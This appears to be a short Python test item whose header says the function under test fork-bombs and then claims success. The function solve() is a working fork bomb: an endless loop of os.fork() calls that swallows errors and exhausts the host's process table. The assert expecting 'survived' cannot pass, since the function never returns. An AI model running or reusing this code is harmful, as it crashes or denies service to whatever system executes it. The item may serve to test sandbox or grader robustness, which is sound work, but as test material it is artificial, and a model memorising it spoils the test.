# kind: assert convention: the function under test fork-bombs, then claims success
# asserts: ["assert solve() == 'survived'"]
import os
def solve():
    while True:
        try:
            os.fork()
        except OSError:
            pass
